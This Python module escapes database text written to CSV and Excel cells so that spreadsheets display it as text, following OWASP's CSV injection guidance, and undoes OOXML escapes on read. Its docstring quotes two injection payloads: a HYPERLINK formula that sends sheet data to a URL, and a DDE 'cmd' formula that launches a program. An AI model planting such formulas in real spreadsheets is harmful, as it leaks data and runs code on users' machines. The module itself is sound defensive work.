"""How text from the database goes into spreadsheet cells (CSV and Excel workbooks) so that Excel or
LibreOffice shows it and never runs it, and how the catalogue reads its own files back unchanged.

The rule is OWASP's advice on CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection):
a cell whose text starts with =, +, -, @, tab or carriage return (and, in the page's 2025 revision,
line feed) is taken for a formula — `=HYPERLINK("http://…?"&A1,"…")` sends the sheet away,
`=cmd|' /C calc'!A0` starts a program — so such text is written behind a single quote, the
spreadsheet's own mark for "this is text". Numbers and dates are the program's own, not typed by
anyone, and stay numbers and dates (-5 written as a number runs nothing)."""
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE = "'"
_OOXML_ESCAPE = re.compile(r"_x[0-9A-Fa-f]{4}_")
_OOXML_LOOKALIKE = re.compile(r"_(?=x[0-9A-Fa-f]{4})")


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet would take this text, as a cell, for a formula (OWASP's list)."""
    return text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    """Text as a CSV cell: behind a quote when it would start a formula. Text that already has quotes
    before such a start gets one more, so read_csv_text knows which quote it has to take off."""
    return QUOTE + text if starts_a_formula(text.lstrip(QUOTE)) else text


def read_csv_text(cell: str) -> str:
    """The text csv_text wrote; a cell typed as '=1 in a spreadsheet also reads as =1."""
    return cell[1:] if cell.startswith(QUOTE) and starts_a_formula(cell.lstrip(QUOTE)) else cell


def csv_cell(value, shown=str) -> str:
    """A value as a CSV cell, written by `shown`; text (a str) under the rule, numbers and dates as shown."""
    if value is None:
        return ""
    return csv_text(shown(value)) if isinstance(value, str) else shown(value)


def put(cell, value) -> None:
    """A value into an openpyxl cell: text always as text (openpyxl would make "=…" a formula), marked
    with the quote prefix when it would start one, so Excel keeps it text even when it is edited."""
    if not isinstance(value, str):
        cell.value = value
        return
    cell.value = _ooxml_text(value)
    cell.data_type = "s"
    if starts_a_formula(value):
        cell.quotePrefix = True


def read_workbook_text(text: str) -> str:
    """Text from a workbook cell as it was written: OOXML's _x000D_ escapes undone (Excel writes a
    carriage return that way; openpyxl reads it as it stands)."""
    return _OOXML_ESCAPE.sub(_unescaped, text) if "_x" in text else text


def _unescaped(match) -> str:
    code = int(match.group()[2:6], 16)
    # only what XML text may hold: a NUL or a lone surrogate would fail later, in the database
    return chr(code) if code in (0x9, 0xA, 0xD) or 0x20 <= code < 0xD800 or 0xE000 <= code < 0xFFFE else match.group()


def _ooxml_text(text: str) -> str:
    # XML turns a bare carriage return into a line feed, so OOXML writes it _x000D_; an underscore
    # the text really has before "x" and four hex digits is written _x005F_ so that it is not decoded.
    if "_x" in text:
        text = _OOXML_LOOKALIKE.sub("_x005F_", text)
    return text.replace("\r", "_x000D_")
